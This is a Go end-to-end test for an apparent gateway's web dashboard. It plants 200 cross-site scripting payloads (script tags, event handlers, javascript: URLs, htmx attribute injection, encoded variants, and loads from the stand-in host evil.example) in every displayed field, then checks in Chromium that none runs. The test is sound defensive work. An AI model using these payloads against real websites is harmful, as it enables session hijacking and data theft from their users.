package e2e

import (
	"bufio"
	"context"
	"fmt"
	"hash/crc32"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"os"
	"slices"
	"strconv"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/chromedp/cdproto/cdp"
	"github.com/chromedp/cdproto/page"
	"github.com/chromedp/chromedp"

	"github.com/gatehouse/gatehouse/internal/auth"
	"github.com/gatehouse/gatehouse/internal/registry"
	"github.com/gatehouse/gatehouse/internal/web"
)

// payloadCount says how many payloads there are to be, at most all.
const payloadCount = "GATEHOUSE_PAYLOADS"

// ran is what a payload runs: it opens a dialog and leaves a mark.
const ran = "alert(top.ran=1)"

// payloads are what somebody writes who wants a page to run it: each shape behind each way out of where it may stand, and those
// that stand for themselves.
func payloads() (all []string) {
	shapes := []string{
		`<script>` + ran + `</script>`, `<ScRiPt/x>` + ran + `</sCrIpT >`, `<script src=//evil.example/a.js></script>`, `<img src=x onerror=` + ran + `>`, `<svg/onload=` + ran + `>`, `<svg><script>` + ran + `</script></svg>`,
		`<math><mtext><table><mglyph><style><img src=x onerror=` + ran + `>`, `<details open ontoggle=` + ran + `>x`, `<input autofocus onfocus=` + ran + `>`, `<video><source onerror=` + ran + `></video>`,
		`<iframe srcdoc="<script>` + ran + `</script>"></iframe>`, `<iframe src="javascript:` + ran + `"></iframe>`, `<object data="data:text/html,<script>` + ran + `</script>"></object>`, `<a autofocus href="javascript:` + ran + `">x</a>`,
		`<form action="javascript:` + ran + `"><button>x</button></form>`, `<meta http-equiv=refresh content="0;url=//evil.example/">`, `<base href="//evil.example/">`, `<link rel=stylesheet href="//evil.example/a.css">`,
		`<style>@import"//evil.example/b.css";*{background:url(//evil.example/c)}</style>`, `<div hx-get="/dashboard/ran" hx-trigger="load">x</div>`, `<div hx-on::load="` + ran + `" hx-on:htmx:load="` + ran + `">x</div>`,
		`<div hx-trigger="load[` + ran + `]" hx-get="//evil.example/d">x</div>`, `<body onload=` + ran + `>`, `<noscript><p title="</noscript><img src=x onerror=` + ran + `>">`,
	}
	for _, shape := range shapes {
		for _, out := range []string{``, `">`, `'>`, `-->`, `</title>`, `</textarea>`, `</code></script>`} {
			all = append(all, out+shape)
		}
	}
	return append(
		all,
		`" autofocus onfocus="`+ran, `' autofocus onfocus='`+ran, `x autofocus onfocus=`+ran+` y`, `" onmouseover="`+ran+`" style="position:fixed;inset:0`, "` onerror=`"+ran,
		`" hx-get="/dashboard/ran" hx-trigger="load`, `" hx-on::load="`+ran, `" data-hx-on:load="`+ran, `" srcdoc="<script>`+ran+`</script>`, `" style="background:url(//evil.example/e)`,
		`javascript:`+ran, `JaVaScRiPt:`+ran, `java&Tab;script:`+ran, `&#106;avascript:`+ran, `data:text/html,<script>`+ran+`</script>`, `vbscript:`+ran, `//evil.example/f`,
		`&lt;script&gt;`+ran+`&lt;/script&gt;`, `&#60;script&#62;`+ran+`&#60;/script&#62;`, `&quot; onfocus=&quot;`+ran, `%3Cscript%3E`+ran+`%3C/script%3E`, `\u003cscript\u003e`+ran+`\u003c/script\u003e`, `\x3cscript\x3e`+ran,
		`{{.Actor}}{{template "main" .}}`, `${`+ran+`}`, `<%= `+ran+` %>`, "x\u2028"+ran+"\u2029", `';`+ran+`;'`, `"-`+ran+`-"`, `<!--`, `<textarea><title>`, `]]><![CDATA[<script>`+ran+`</script>`,
	)
}

// Whatever others wrote, in every field that a page shows, is text to Chromium too: nothing runs, nothing is asked for elsewhere,
// and the policy has nothing to stop.
func TestPayloadsInBrowser(t *testing.T) {
	all := payloads()
	if len(all) != 200 {
		t.Fatalf("there are %d payloads", len(all))
	}
	count := 20
	if text := os.Getenv(payloadCount); text != "" {
		var err error
		if count, err = strconv.Atoi(text); err != nil || count < 1 || count > len(all) {
			t.Fatalf("%s=%s: want 1 to %d", payloadCount, text, len(all))
		}
	}
	var some []string
	for n := range count {
		some = append(some, all[n*len(all)/count])
	}

	up := newUpstream(t, func(call) string { return `{}` })
	in := install(t, wideLimits+`
routes:
  - {path: /api/v1/, upstream: "`+up.URL+`", accepts: [B2B_ACCESS]}
`)
	_, port, _ := net.SplitHostPort(in.Listen)
	members, operators := "http://localhost:"+port, "http://"+strings.Replace(in.Admin, "127.0.0.1", "localhost", 1)
	in.configure(t, "public_url: "+members+"\n")
	s := in.start(t)
	t.Cleanup(func() {
		if err := s.Stop(); err != nil {
			t.Errorf("the server stopped with %v; it said:\n%s", err, s.Said.Tail())
		}
	})
	account := in.writeAll(t, some)
	read := 0 // of so many paths it is known what they say
	for n, payload := range some {
		if _, _, err := web.CheckPath("/api/v1/" + requested(marked(payload, "path", n))); err == nil {
			read++
		}
	}

	b := startBrowser(t, in.Listen, "")
	v := &payloadVisit{browser: b, most: 2, refusals: 2, met: map[string]map[string]bool{}}
	if count == len(all) {
		v.most, v.refusals = 20, count
	}
	v.hears()
	v.canFail()
	w := watch(b)
	for _, side := range []struct {
		of       auth.AccountID
		at, from string
		fields   string
	}{
		{0, operators, "/dashboard/accounts/" + account.String(), "name ref credential note member operator token used agent path"},
		{account, members, "/dashboard/people", "credential note member used agent path"},
	} {
		putAway := b.device()
		b.open(s.invite(t, side.at+"/dashboard", side.of, "jane@example.com"))
		b.press("Go on")
		b.press("Join with a passkey")
		b.arrives(side.at + "/dashboard/")
		clear(v.met)
		began := time.Now()
		v.everywhere(side.at, side.from)
		for _, field := range strings.Fields(side.fields) {
			want := count
			switch field {
			case "agent": // no list has it
				want = min(v.refusals, want)
				if side.of != 0 { // of a path that could be read in two ways, nobody knows whose the request was
					want = min(want, read)
				}
			case "path":
				want = read
			}
			got := len(v.met[field])
			t.Logf("%s: %d of %d payloads that are a %s were met", side.at, got, count, field)
			if got < want {
				t.Errorf("%s: of %d payloads that are a %s, %d were met, want %d", side.at, count, field, got, want)
			}
		}
		t.Logf("%s: %v", side.at, time.Since(began).Round(time.Millisecond))
		putAway()
	}
	w.quietly(operators, members)
	if n := v.dialogs.Load(); n != 0 {
		t.Errorf("%d dialogs were opened", n)
	}
	w.mu.Lock()
	defer w.mu.Unlock()
	if strings.Contains(strings.Join(w.asked, "\n"), "/dashboard/ran") {
		t.Error("htmx did what a payload says")
	}
}

// writeAll writes every payload into every field, and returns the account that has them. What came from elsewhere than its list
// is refused, with a path and a user agent.
func (in *installation) writeAll(t *testing.T, payloads []string) auth.AccountID {
	t.Helper()
	op := in.open(t)
	defer op.Close()
	r, as := op.Registry, auth.Actor{Name: "test", Role: auth.RoleOwner, Machine: true}
	must := func(err error) {
		t.Helper()
		if err != nil {
			t.Fatal(err)
		}
	}
	account, err := r.CreateAccount(t.Context(), as, "Acme", "")
	must(err)
	var token string
	for n, payload := range payloads {
		_, err := r.CreateAccount(t.Context(), as, marked(payload, "name", n), visible(marked(payload, "ref", n)))
		must(err)
		for of, field := range map[auth.AccountID]string{0: "operator", account.ID: "member"} {
			person := registry.NewPerson{Email: fmt.Sprintf("%s%d@example.com", field, n), Name: marked(payload, field, n), Role: auth.RoleViewer}
			_, err := r.InvitePerson(t.Context(), as, of, person, 0)
			must(err)
		}
		_, err = r.CreateToken(t.Context(), as, registry.NewToken{Name: marked(payload, "token", n), Role: auth.RoleViewer, Scopes: registry.Scopes()[:1]})
		must(err)
		made, err := r.CreateCredential(t.Context(), as, registry.NewCredential{Account: account.ID, Kind: auth.Login, Name: marked(payload, "credential", n)})
		must(err)
		username, password := made.Reveal()
		body := fmt.Sprintf(`{"username":%q,"password":%q}`, username, password)
		status, answer := in.literally(t, 1, "POST /auth/login", marked(payload, "used", n), fmt.Sprintf("Content-Type: application/json\r\nContent-Length: %d\r\n", len(body)), body)
		_, token, _ = strings.Cut(answer, `"access_token":"`)
		if token, _, _ = strings.Cut(token, `"`); status != http.StatusOK || token == "" {
			t.Fatalf("a login was answered with %d: %s", status, answer)
		}
	}
	for n, payload := range payloads {
		address := netip.AddrFrom4([4]byte{203, 0, 113, byte(n)})
		_, err := r.AllowIP(t.Context(), as, account.ID, []netip.Prefix{netip.PrefixFrom(address, 32)}, marked(payload, "note", n), time.Time{})
		must(err)
	}
	for n, payload := range payloads {
		path := "/api/v1/" + requested(marked(payload, "path", n))
		from := byte(1 + n/50) // of more from one address in a minute, less is written down
		status, answer := in.literally(t, from, "GET "+path, marked(payload, "agent", n), "Authorization: Bearer "+token+"\r\n", "")
		if status < http.StatusBadRequest {
			t.Fatalf("%s was answered with %d: %s", path, status, answer)
		}
	}
	return account.ID
}

// marked is a payload by which it can be told which field of which it is.
func marked(payload, field string, n int) string { return fmt.Sprintf("%s//%s%d", payload, field, n) }

// visible is what of a text a reference can be.
func visible(text string) string {
	return strings.Map(func(r rune) rune {
		if r <= ' ' || r > '~' {
			return '/'
		}
		return r
	}, text)
}

// requested is a text as the path of a request line, with as much of it as it was as such a line can be.
func requested(text string) string {
	var b strings.Builder
	for _, c := range []byte(strings.ReplaceAll(text, "//", "/")) {
		if c <= ' ' || c > '~' || c == '%' || c == '?' || c == '#' {
			fmt.Fprintf(&b, "%%%02X", c)
		} else {
			b.WriteByte(c)
		}
	}
	return b.String()
}

// literally sends a request as no client would, from 127.0.0.from.
func (in *installation) literally(t *testing.T, from byte, line, agent, headers, body string) (status int, answer string) {
	t.Helper()
	dialer := net.Dialer{Timeout: time.Minute, LocalAddr: &net.TCPAddr{IP: net.IPv4(127, 0, 0, from)}}
	conn, err := dialer.DialContext(t.Context(), "tcp", in.Listen)
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	conn.SetDeadline(time.Now().Add(time.Minute))
	fmt.Fprintf(conn, "%s HTTP/1.1\r\nHost: localhost\r\nUser-Agent: %s\r\nConnection: close\r\n%s\r\n%s", line, agent, headers, body)
	res, err := http.ReadResponse(bufio.NewReader(conn), nil)
	if err != nil {
		t.Fatalf("%s: %v", line, err)
	}
	defer res.Body.Close()
	text, err := io.ReadAll(res.Body)
	if err != nil {
		t.Fatal(err)
	}
	return res.StatusCode, string(text)
}

// A payloadVisit looks for payloads that are more than text.
type payloadVisit struct {
	*browser
	most     int // pages of a kind, of which there is one for each of something
	refusals int // pages of refusals, as many
	dialogs  atomic.Int32
	met      map[string]map[string]bool // by field
}

// hears counts the dialogs that pages open, and closes them.
func (v *payloadVisit) hears() {
	v.t.Helper()
	err := chromedp.Listen(v.ctx, func(event any) {
		if _, ok := event.(*page.EventJavascriptDialogOpening); !ok {
			return
		}
		v.dialogs.Add(1)
		go chromedp.Do(v.ctx, chromedp.Func(func(ctx context.Context, t *chromedp.Target) error {
			_, err := cdp.Call(ctx, t, page.HandleJavaScriptDialog, page.HandleJavaScriptDialogParams{Accept: true})
			return err
		}))
	})
	if err != nil {
		v.t.Fatal(err)
	}
}

// marks says whether a payload has run in the page.
func (v *payloadVisit) marks() (ran bool) {
	v.t.Helper()
	v.reads(&ran, `window.ran !== undefined`)
	return ran
}

// canFail shows that a payload is noticed that runs, and one that only the policy stops.
func (v *payloadVisit) canFail() {
	v.t.Helper()
	careless := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		if r.URL.Path == "/stopped" {
			w.Header().Set("Content-Security-Policy", "script-src 'self'")
		}
		io.WriteString(w, `<!doctype html><link rel=icon href=data:,><p><svg/onload=`+ran+`>`)
	}))
	defer careless.Close()
	v.open(careless.URL)
	if !v.marks() || v.dialogs.Swap(0) != 1 {
		v.t.Fatal("a payload ran, and nobody noticed")
	}
	w := watch(v.browser)
	v.open(careless.URL + "/stopped")
	v.eventually("the policy stopped a payload, and nobody noticed", func() bool {
		ran := v.marks()
		w.mu.Lock()
		defer w.mu.Unlock()
		return !ran && strings.Contains(strings.Join(w.wrong, " "), "Content Security Policy")
	})
	v.open("about:blank")
}

// everywhere goes to every page that links lead to from one and from the start page: to all pages of each list, and to as many as
// it may of those that there is one of for each of something, where chance says to which.
func (v *payloadVisit) everywhere(server, from string) {
	v.t.Helper()
	const match = `[...new Set((document.documentElement.textContent + [...document.querySelectorAll('input, textarea')].map(e => e.value).join(' ')).match(/\/[a-z]+\d+/g))]`
	found, known, kinds := []string{from, "/dashboard/"}, map[string]bool{from: true, "/dashboard/": true}, map[string]int{}
	for i := 0; i < len(found); i++ {
		v.open(server + found[i])
		if v.marks() {
			v.t.Errorf("%s: a payload has run", found[i])
		}
		var here struct{ Met, Links []string }
		v.reads(&here, `{met: `+match+`, links: [...document.querySelectorAll('a[href^="/dashboard/"]')].map(a => a.getAttribute('href'))}`)
		for _, one := range here.Met {
			field := strings.Trim(one, "/0123456789")
			if v.met[field] == nil {
				v.met[field] = map[string]bool{}
			}
			v.met[field][one] = true
		}
		slices.SortFunc(here.Links, func(a, b string) int {
			return int(crc32.ChecksumIEEE([]byte(a))>>1) - int(crc32.ChecksumIEEE([]byte(b))>>1)
		})
		for _, link := range here.Links {
			path, query, _ := strings.Cut(link, "?")
			query, _, _ = strings.Cut(query, "=")
			kind := varies.ReplaceAllString(path, "…") + "?" + query
			most := v.most
			if strings.HasSuffix(path, "/refusals/"+path[strings.LastIndexByte(path, '/')+1:]) {
				most = v.refusals
			}
			if known[link] || kinds[kind] >= most && query != "after" || strings.Contains(link, ".csv") || strings.Contains(link, "#") {
				continue
			}
			known[link] = true
			kinds[kind]++
			found = append(found, link)
		}
	}
	v.t.Logf("%s: %d pages of %d kinds", server, len(found), len(kinds))
}
